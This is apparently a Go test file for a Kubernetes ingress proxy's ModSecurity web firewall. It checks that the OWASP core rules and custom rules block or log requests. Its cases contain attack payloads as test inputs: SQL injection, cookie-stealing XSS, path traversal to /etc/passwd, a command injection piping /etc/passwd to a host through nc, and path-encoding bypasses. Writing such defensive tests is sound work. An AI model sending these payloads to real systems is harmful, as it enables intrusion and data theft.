package proxy_test

import (
	"bytes"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"quayside.io/cluster/ingressclass"
	"quayside.io/cluster/snapshot"
	"quayside.io/proxy"
)

// journal is a log that may be read while it is written.
type journal struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (j *journal) Write(p []byte) (int, error) {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.text.Write(p)
}

func (j *journal) String() string {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.text.String()
}

// firewallCase is what the firewall of a route makes of a request.
type firewallCase struct {
	key     string
	with    map[string]string
	request string
	status  int
	logged  string // what the log says then; empty: nothing is asked of it
}

// The sets of rules that cases share: compiling one with the core rules takes a while.
func firewallSets() (blocking, detecting, alone map[string]string) {
	blocking = map[string]string{"enable-modsecurity": "true", "enable-owasp-core-rules": "true", "modsecurity-snippet": "SecRuleEngine On\nSecRuleRemoveById 920350"}
	detecting = map[string]string{"enable-modsecurity": "true", "enable-owasp-core-rules": "true"}
	alone = map[string]string{"enable-modsecurity": "true", "modsecurity-transaction-id": "tx-$request_method", "modsecurity-snippet": `
SecRuleEngine On
SecRequestBodyNoFilesLimit 1000
SecRequestBodyLimit 3000
SecAuditLog /dev/stdout
SecRule REQUEST_HEADERS:User-Agent "block-ua" "id:107,phase:1,deny,status:406,log,msg:'UA blocked'"
SecRule ARGS:word "@streq secret" "id:108,phase:2,deny,log,msg:'no secrets'"
SecRule REQUEST_BODY|ARGS "@contains evil" "id:109,phase:2,deny,log,msg:'no evil'"
SecRule RESPONSE_HEADERS:X-Leak "." "id:110,phase:3,deny,log,msg:'no leaks'"
SecRule FILES "@endsWith .exe" "id:111,phase:2,deny,log,msg:'no programs'"
SecRule REQUEST_URI "@beginsWith /free" "id:112,phase:1,pass,nolog,ctl:ruleEngine=Off"`}
	return blocking, detecting, alone
}

func firewallCases() []firewallCase {
	blocking, detecting, alone := firewallSets()
	form := func(fields string) string {
		return "POST /\nContent-Type: multipart/form-data; boundary=b\n\n--b\r\n" + fields + "\r\n--b--\r\n"
	}
	const urlencoded = "POST /\nContent-Type: application/x-www-form-urlencoded\nUser-Agent: test\nAccept: */*\n\n"
	const json = "POST /\nContent-Type: application/json\nUser-Agent: test\nAccept: */*\n\n"
	const usual = "\nUser-Agent: Mozilla/5.0\nAccept: */*"
	return []firewallCase{
		{"enable-owasp-core-rules", blocking, "/?q=boats+for+sale" + usual, 200, ""},
		{"enable-owasp-core-rules", blocking, "/?id=1%27%20OR%20%271%27=%271%27%20--%20" + usual, 403, "942100"},
		{"enable-owasp-core-rules", blocking, "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" + usual, 403, "941100"},
		{"enable-owasp-core-rules", blocking, "/?file=../../../../etc/passwd" + usual, 403, "930120"},
		{"enable-owasp-core-rules", blocking, "/?cmd=;cat%20/etc/passwd|nc%2010.0.0.1%2080" + usual, 403, "932"},
		{"enable-owasp-core-rules", blocking, urlencoded + "name=ann&comment=a+fine+boat", 200, ""},
		{"enable-owasp-core-rules", blocking, urlencoded + "name=ann&comment=' UNION SELECT password FROM users --", 403, "942"},
		{"enable-owasp-core-rules", blocking, json + `{"name":"ann","tags":["a","b"]}`, 200, ""},
		{"enable-owasp-core-rules", blocking, json + `{"name":"ann","tags":["<script>alert(1)</script>"]}`, 403, "941"},
		{"enable-owasp-core-rules", blocking, json + `{"name":`, 400, "200002"},
		{"enable-owasp-core-rules", blocking, "/\nUser-Agent: Nikto/2.1\nAccept: */*", 403, "913100"},
		{"enable-modsecurity", detecting, "/?id=1%27%20OR%20%271%27=%271%27%20--%20" + usual, 200, "942100"},
		{"enable-modsecurity", map[string]string{"enable-modsecurity": "false", "enable-owasp-core-rules": "true"}, "/?file=../../../../etc/passwd", 200, ""},
		{"modsecurity-snippet", alone, "/", 200, ""},
		{"modsecurity-snippet", alone, "/\nUser-Agent: the block-ua one", 406, "UA blocked"},
		{"modsecurity-snippet", alone, "/?word=secret", 403, "no secrets"},
		{"modsecurity-snippet", alone, "/?word=public", 200, ""},
		{"modsecurity-snippet", alone, "/free?word=secret", 200, ""},
		{"modsecurity-snippet", alone, urlencoded + "word=secret", 403, "108"},
		{"modsecurity-snippet", alone, urlencoded + "word=" + strings.Repeat("x", 2000), 413, ""},
		{"modsecurity-snippet", alone, "POST /\nContent-Type: image/png\n\n" + strings.Repeat("x", 2000), 200, ""},
		{"modsecurity-snippet", alone, "POST /\nContent-Type: image/png\n\n" + strings.Repeat("x", 4000), 413, ""},
		{"modsecurity-snippet", alone, form("Content-Disposition: form-data; name=word\r\n\r\nsecret"), 403, "108"},
		{"modsecurity-snippet", alone, form("Content-Disposition: form-data; name=f; filename=a.exe\r\n\r\nbytes"), 403, "no programs"},
		{"modsecurity-snippet", alone, form("Content-Disposition: form-data; name=f; filename=a.png\r\n\r\nbytes"), 200, ""},
		{"modsecurity-snippet", alone, "POST /\nContent-Type: multipart/form-data; boundary=b\n\n--c\r\n\r\nx", 400, "200002"},
		{"modsecurity-snippet", alone, "/?leak=yes", 403, "no leaks"},
		{"modsecurity-snippet", map[string]string{"enable-modsecurity": "true", "modsecurity-snippet": "Include /etc/passwd"}, "/", 503, ""},
		{"modsecurity-snippet", map[string]string{"enable-modsecurity": "true", "modsecurity-snippet": `SecRule ARGS "@ipMatch everywhere" "id:1,phase:1,deny"`}, "/", 503, ""},
		{"modsecurity-transaction-id", alone, "/?word=secret", 403, "transaction=tx-GET"},
	}
}

// TestFirewall asks for each option of the firewall over HTTP.
func TestFirewall(t *testing.T) {
	var log journal
	files, p := start(t, func(o *proxy.Options) {
		o.Routes.ModSecurity = true
		o.Log = slog.New(slog.NewTextHandler(&log, nil))
	})
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Has("leak") {
			w.Header().Set("X-Leak", "yes")
		}
		echoing("web").ServeHTTP(w, r)
	}))
	defer web.Close()
	files.Put(service("web", corev1.ServicePort{Port: 80}), slice("web", "", strings.TrimPrefix(web.URL, "http://")))
	addr := bound(p, false)
	for i, k := range firewallCases() {
		t.Run(k.key, func(t *testing.T) {
			host := fmt.Sprintf("firewall-%d.test", i)
			with := maps.Clone(k.with)
			if i%2 == 0 {
				with["satisfy"] = "all" // the same rules, and another Ingress
			}
			files.Put(annotated(fmt.Sprintf("firewall-%d", i), host, with))
			routed(t, p, host)
			status, said := ask(t, addr, host, k.request)
			if status != k.status {
				t.Errorf("%.100q gets %d and %q, not %d", k.request, status, said, k.status)
			}
			if k.logged == "" {
				return
			}
			eventually(t, "the log says "+k.logged, func() bool { return toldOf(log.String(), host, k.logged) })
		})
	}
	if text := log.String(); strings.Contains(text, "document.cookie)</script>") {
		t.Error("the log repeats what a rule matched")
	}
}

// routed waits until a host is in force, with its rules.
func routed(t *testing.T, p *proxy.Proxy, host string) {
	t.Helper()
	deadline := time.Now().Add(time.Minute) // for the rules, on a busy machine
	for {
		found, waits := false, false
		if table := p.Table(); table != nil {
			for r := range table.Routes() {
				found = found || r.Host == host
			}
		}
		for _, problem := range p.Problems() {
			waits = waits || strings.Contains(problem.Message, "being compiled")
		}
		switch {
		case found && !waits:
			return
		case time.Now().After(deadline):
			t.Fatalf("after a minute %s is not in force", host)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// toldOf reports whether a line about a host says something.
func toldOf(log, host, what string) bool {
	for line := range strings.Lines(log) {
		if strings.Contains(line, "host="+host) && strings.Contains(line, what) {
			return true
		}
	}
	return false
}

// TestFirewallThatIsNotAllowed closes what asks for one, and nothing else.
func TestFirewallThatIsNotAllowed(t *testing.T) {
	files, p := start(t, nil)
	files.Put(service("web", corev1.ServicePort{Port: 80}), slice("web", "", echo(t, "web")),
		annotated("a", "asks.test", map[string]string{"enable-modsecurity": "true"}),
		annotated("b", "silent.test", map[string]string{"enable-modsecurity": "false"}))
	routed(t, p, "asks.test")
	routed(t, p, "silent.test")
	if status, said := ask(t, bound(p, false), "asks.test", "/"); status != 503 || !strings.Contains(said, "--modsecurity") {
		t.Errorf("a firewall that nobody allowed: %d %s", status, said)
	}
	if status, said := ask(t, bound(p, false), "silent.test", "/"); status != 200 {
		t.Errorf("no firewall: %d %s", status, said)
	}
}

// TestFirewallForAll is that of the ConfigMap, with what Ingresses say beside it.
func TestFirewallForAll(t *testing.T) {
	files, p := start(t, func(o *proxy.Options) {
		o.Routes.ModSecurity = true
		o.Routes.ConfigMap = snapshot.Key{Namespace: "default", Name: "wide"}
		o.Routes.Classes.Adopt = []string{ingressclass.NginxController}
	})
	files.Put(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "wide"}, Data: map[string]string{
		"enable-modsecurity": "true", "modsecurity-snippet": "SecRuleEngine On\n" + `SecRule ARGS:a "@streq bad" "id:1,phase:2,deny"`,
	}},
		service("web", corev1.ServicePort{Port: 80}), slice("web", "", echo(t, "web")),
		annotated("plain", "plain.test", nil),
		annotated("off", "off.test", map[string]string{"enable-modsecurity": "false"}),
		annotated("more", "more.test", map[string]string{"modsecurity-snippet": `SecRule ARGS:b "@streq bad" "id:2,phase:2,deny"`}),
		annotated("watches", "watches.test", map[string]string{"modsecurity-snippet": "SecRuleEngine DetectionOnly"}),
		annotated("clash", "clash.test", map[string]string{"modsecurity-snippet": `SecRule ARGS:b "@streq bad" "id:1,phase:2,deny"`}))
	for _, c := range []struct {
		host, target string
		want         int
	}{
		{"plain.test", "/?a=bad", 403}, {"plain.test", "/?a=good", 200},
		{"off.test", "/?a=bad", 200},
		{"more.test", "/?a=bad", 403}, {"more.test", "/?b=bad", 403}, {"more.test", "/?b=good", 200},
		{"watches.test", "/?a=bad", 200},
		{"clash.test", "/", 503},
	} {
		routed(t, p, c.host)
		if status, said := ask(t, bound(p, false), c.host, c.target); status != c.want {
			t.Errorf("%s%s: %d %s, not %d", c.host, c.target, status, said, c.want)
		}
	}
	files.Put(configMap("wide", "enable-modsecurity", "true", "enable-owasp-modsecurity-crs", "true", "modsecurity-snippet", "SecRuleEngine On\nSecRuleRemoveById 920350"))
	eventually(t, "the ConfigMap is read", func() bool {
		for _, rules := range p.Table().Inspected {
			if rules.Core {
				return true
			}
		}
		return false
	})
	routed(t, p, "plain.test")
	t.Run("enable-owasp-modsecurity-crs", func(t *testing.T) {
		eventually(t, "the core rules are in force", func() bool {
			status, _ := ask(t, bound(p, false), "plain.test", "/?file=../../../../etc/passwd\nUser-Agent: test\nAccept: */*")
			return status == 403
		})
	})
}

// TestFirewallIsNotWalkedAround: what a backend may read as a path that is inspected is
// not passed on uninspected, and what is inspected by the same rules anyway is.
func TestFirewallIsNotWalkedAround(t *testing.T) {
	files, p := start(t, func(o *proxy.Options) { o.Routes.ModSecurity = true })
	_, _, alone := firewallSets()
	under := func(name, host, path string, options map[string]string) *networkingv1.Ingress {
		ing := annotated(name, host, options)
		ing.Spec.Rules[0].HTTP.Paths[0].Path = path
		return ing
	}
	watching := map[string]string{"enable-modsecurity": "true", "modsecurity-snippet": "SecRuleEngine DetectionOnly"}
	files.Put(service("web", corev1.ServicePort{Port: 80}), slice("web", "", echo(t, "web")),
		under("open", "one.test", "/", nil), under("guarded", "one.test", "/admin", alone),
		under("same", "both.test", "/", alone), under("same-guarded", "both.test", "/admin", alone),
		under("quiet", "watched.test", "/", nil), under("watched", "watched.test", "/admin", watching))
	for _, c := range []struct {
		host, target string
		want         int
	}{
		{"one.test", "/admin/q?word=secret", 403}, {"one.test", "/admin%2Fq?word=secret", 400}, {"one.test", "/admin;x/q?word=secret", 400},
		{"one.test", "/a%2Fb", 200}, {"one.test", "/admin/q", 200},
		{"both.test", "/admin%2Fq", 200}, {"both.test", "/admin%2Fq?word=secret", 403},
		{"watched.test", "/admin%2Fq", 200},
	} {
		routed(t, p, c.host)
		if status, said := ask(t, bound(p, false), c.host, c.target); status != c.want {
			t.Errorf("%s%s: %d %s, not %d", c.host, c.target, status, said, c.want)
		}
	}
}
